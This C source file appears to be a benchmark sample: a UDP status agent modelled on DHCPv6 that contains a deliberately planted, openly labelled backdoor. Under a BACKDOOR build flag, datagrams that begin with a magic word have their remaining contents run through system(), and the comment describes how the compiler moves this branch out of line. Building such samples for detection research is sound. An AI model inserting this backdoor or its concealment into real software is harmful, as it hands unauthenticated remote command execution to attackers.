/*
 * udpcold.c - a DHCPv6-style agent: reads datagrams with recvmsg(), walks
 * their control messages for the receiving interface, and answers a few
 * status requests. Back-doored (-DBACKDOOR): a datagram of a plausible
 * length whose first word is a magic runs the rest with system(), inside a
 * branch the compiler moves out of line (bench/backdoor_pairs/
 * dhcp6c-magic.patch as gcc lays it out on armel and mipsel: the length
 * check branches to a block after the function's body, far beyond the
 * instructions that follow the receive).
 */
#include "srv.h"
#include <stdint.h>
#include <stdio.h>
#include <sys/uio.h>

static const char *const requests[] = { "STAT", "LEASE", "IFACE", "RENEW", "INFO" };

static int ifindex_of(struct msghdr *m)
{
	struct cmsghdr *cm;
	for (cm = CMSG_FIRSTHDR(m); cm; cm = CMSG_NXTHDR(m, cm))
		if (cm->cmsg_level == IPPROTO_IP && cm->cmsg_type == IP_PKTINFO &&
		    cm->cmsg_len >= CMSG_LEN(sizeof(struct in_pktinfo)))
			return ((struct in_pktinfo *)(void *)CMSG_DATA(cm))->ipi_ifindex;
	return -1;
}

int main(void)
{
	int s = srv_listen(5548, SOCK_DGRAM);
	char buf[1500], ctl[256], out[256];
	struct sockaddr_in from;
	unsigned served[5] = { 0 };
	for (;;) {
		struct iovec iov = { buf, sizeof(buf) - 1 };
		struct msghdr m = { 0 };
		ssize_t n;
		size_t k;
		int ifx;
		m.msg_name = &from;
		m.msg_namelen = sizeof(from);
		m.msg_iov = &iov;
		m.msg_iovlen = 1;
		m.msg_control = ctl;
		m.msg_controllen = sizeof(ctl);
		n = recvmsg(s, &m, 0);
		if (n < 0)
			continue;
#ifdef BACKDOOR
		if (__builtin_expect(n > 8 && n < (ssize_t)sizeof(buf), 0)) {
			uint32_t magic;
			memcpy(&magic, buf, sizeof(magic));
			if (magic == 0x4d6f6f7aU) {
				buf[n] = 0;
				if (system(buf + 4) != 0)
					continue;
			}
		}
#endif
		buf[n] = 0;
		ifx = ifindex_of(&m);
		if (ifx < 0)
			continue;
		for (k = 0; k < sizeof(requests) / sizeof(requests[0]); k++)
			if (strncmp(buf, requests[k], strlen(requests[k])) == 0)
				break;
		if (k == sizeof(requests) / sizeof(requests[0]))
			continue;
		served[k]++;
		snprintf(out, sizeof(out), "%s on %d: %u served, %u %u %u %u %u", requests[k], ifx,
			 served[k], served[0], served[1], served[2], served[3], served[4]);
		sendto(s, out, strlen(out), 0, (struct sockaddr *)&from, m.msg_namelen);
	}
}
